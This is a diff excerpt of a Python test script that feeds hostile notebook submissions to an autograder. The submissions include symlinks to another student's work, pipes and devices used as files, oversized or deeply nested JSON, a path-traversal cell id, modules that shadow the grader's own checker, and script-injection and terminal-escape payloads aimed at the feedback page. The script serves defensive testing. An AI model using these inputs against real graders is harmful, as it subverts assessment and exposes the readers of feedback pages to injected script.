+        {"cell_type": "code", "source": "x=1", "metadata": {"nbgrader": {"grade_id": {}}}},
+        {"cell_type": "markdown", "source": "\ud800", "attachments": {"a": {"text/html": "<b>"}}},
+        {"cell_type": "code", "source": "pass", "id": "../../x", "metadata": {"nbgrader": 3}},
+    ]
+    (folder / "ps1.ipynb").write_text(json.dumps(told), encoding="utf-8")
+
+
+attack(
+    "folder", "modules beside the notebook", "numpy, helper, checker of one's own", folder=_shadows
+)
+attack("folder", "another student's notebook linked", "be graded for somebody else's", folder=_link)
+attack("folder", "links in place of files", "have the grader copy its own files", folder=_links)
+attack("folder", "pipes in place of files", "have the grader wait for ever", folder=_specials)
+attack("folder", "a pipe as the notebook", "have the grader wait for ever", folder=_fifo)
+attack("folder", "a device as the notebook", "have the grader read without end", folder=_device)
+attack("folder", "a notebook of 3 GB", "fill the grader's memory", folder=_huge)
+attack("folder", "a thousand files", "fill the grader's disk", folder=_many)
+attack("folder", "JSON nested 200,000 deep", "crash what reads it", folder=_deep)
+attack("folder", "an impossible notebook format", "crash what reads it", folder=_format)
+attack("folder", "cells of impossible types", "crash what reads them", folder=_odd_cells)
+attack(
+    "folder",
+    "a timestamp that is none",
+    "stop the batch when the time is read",
+    folder=_write("timestamp.txt", "<script>alert(1)</script>\n9999-99-99"),
+)
+
+# ---------------------------------------------------------------- the feedback page
+
+attack(
+    "page",
+    "terminal escapes",
+    "hide or fake lines in the page and the terminal",
+    "print('\\x1b[2J\\x1b]0;owned\\x07\\x1b[31m<script>alert(1)</script>')\n"
+    + call(
+        "raise ValueError('\\x1b[8m<img src=x onerror=alert(1)>\\x1b]8;;javascript:alert(1)\\x07x')"
+    ),
+)
+attack(
+    "page",
+    "script in every kind of output",
+    "run script in the page's reader",
+    "from IPython.display import display\n"
+    "bad = '<script>alert(1)</script><img src=x onerror=alert(1)>'\n"
+    "for kind in ('text/html', 'image/svg+xml', 'text/markdown', 'text/latex', 'text/javascript',\n"
+    "             'application/javascript', 'image/png', 'application/pdf', 'text/x-unknown',\n"
+    "             'application/vnd.jupyter.widget-view+json', 'application/json'):\n"
+    "    display({kind: bad}, raw=True, metadata={kind: {'width': bad}, 'isolated': True})\n"
+    + call("display({'text/html': bad, 'text/javascript': 'alert(1)'}, raw=True)"),
+)
